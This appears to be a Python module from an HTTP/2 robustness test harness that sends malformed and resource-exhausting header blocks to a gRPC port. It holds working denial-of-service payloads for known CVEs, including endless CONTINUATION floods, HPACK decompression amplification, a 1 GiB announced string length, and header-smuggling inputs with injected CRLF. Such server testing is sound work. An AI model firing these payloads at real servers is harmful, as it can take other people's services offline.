"""Attacks on the gRPC port by header blocks that are wrong, endless, or small and expensive to decode."""

import itertools
import os

from . import bombs
from .attack import flood, on_grpc, streams
from .wire import (
    CONTINUATION,
    END_HEADERS,
    END_STREAM,
    FRAME_BYTES_MAX,
    HEADERS,
    Http2,
    frame,
    message,
    request_headers,
)


@on_grpc
def large_headers(wire: Http2) -> None:
    """64 KB in frames of the allowed size."""
    block = wire.encoder.encode(request_headers() + [(f"x-{n}", os.urandom(500).hex()) for n in range(64)])
    parts = [block[start : start + FRAME_BYTES_MAX] for start in range(0, len(block), FRAME_BYTES_MAX)]
    wire.send(frame(HEADERS, END_STREAM, 1, parts[0]))
    for part in parts[1:-1]:
        wire.send(frame(CONTINUATION, 0, 1, part))
    wire.send(frame(CONTINUATION, END_HEADERS, 1, parts[-1]))


@on_grpc
def endless_continuation(wire: Http2) -> None:
    """CVE-2024-27316 and its relatives: header fields that never end."""
    wire.send(frame(HEADERS, 0, 1, wire.encoder.encode(request_headers())))
    literal = b"\0\x03x-y\x7f" + b"\x0a" + b"z" * 137  # not indexed, so that nothing is evicted
    flood(wire, itertools.repeat(frame(CONTINUATION, 0, 1, literal)))


@on_grpc
def empty_continuation(wire: Http2) -> None:
    wire.send(frame(HEADERS, 0, 1, wire.encoder.encode(request_headers())))
    flood(wire, itertools.repeat(frame(CONTINUATION, 0, 1)))


@on_grpc
def hpack_references(wire: Http2) -> None:
    """One large entry of the dynamic table, and thousands of references to it: 4 KB a byte."""
    entry = b"\x40\x01x" + b"\x7f\xa1\x1e" + b"v" * 4000
    wire.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, wire.encoder.encode(request_headers()) + entry))
    newest = b"\xbe"  # index 62
    for stream in range(3, 203, 2):
        wire.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, newest * FRAME_BYTES_MAX))
    while wire.said.total() <= 100:
        wire.wait()


@on_grpc
def hpack_string_1gib(wire: Http2) -> None:
    """CVE-2023-33953: a string whose announced length is kept for."""
    length = b"\x7f" + bombs.varint((1 << 30) - 127)
    wire.send(frame(HEADERS, 0, 1, wire.encoder.encode(request_headers()) + b"\0\x01x" + length))
    flood(wire, itertools.repeat(frame(CONTINUATION, 0, 1, b"v" * FRAME_BYTES_MAX)), 4000)


@on_grpc
def hpack_varints(wire: Http2) -> None:
    """Numbers of any length, whose value stays small."""
    wire.send(frame(HEADERS, 0, 1, b"\xff" + b"\x80" * 1000))
    flood(wire, itertools.repeat(frame(CONTINUATION, 0, 1, b"\x80" * FRAME_BYTES_MAX)), 1000)


@on_grpc
def hpack_table_sizes(wire: Http2) -> None:
    wire.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, b"\x20\x3f\xe1\x1f" * 4000))


FILLER = [(f"x-{number}", "y" * 900) for number in range(12)]  # together more than 8 KB


@on_grpc
def odd_header_then_8kb(wire: Http2) -> None:
    """CVE-2023-1428, CVE-2023-32731: each of these brought gRPC core to abort() or lost track of a size."""
    for stream, odd in zip(streams(), ({"te": "x"}, {":scheme": "x"}, {"grpclb_client_stats": "x"})):
        wire.open(stream, request_headers(**odd) + FILLER, end=True)


@on_grpc
def bad_base64(wire: Http2) -> None:
    """CVE-2023-32732, CVE-2024-7246: a binary header that is none, then a call like any other."""
    wire.open(1, request_headers(**{"x-bin": "not base64!"}), end=True)
    wire.open(3, request_headers(**{"x-after": "this"}))
    wire.send_data(3, message(b""))


@on_grpc
def odd_headers(wire: Http2) -> None:
    """Each is malformed by RFC 9113, some are known from smuggling."""
    odd = [
        request_headers(**{"transfer-encoding": "chunked"}),
        request_headers(**{"connection": "keep-alive"}),
        request_headers(**{"X-Upper": "case"}),
        request_headers(**{"content-length": "5"}),
        request_headers(**{"content-length": "-1"}),
        request_headers(**{":path": "/ HTTP/1.1\r\nx: y"}),
        request_headers(**{"x": "a\r\nb\0c"}),
        request_headers(**{":unknown": "pseudo"}),
        request_headers()[::-1],
        [("x", "no pseudo headers")],
        request_headers() + [(":path", "/again")],
        request_headers(**{"te": "trailers, chunked"}),
    ]
    for stream, headers in zip(streams(), odd):
        wire.open(stream, headers, end=True)
    while wire.said.total() < len(odd):
        wire.wait()
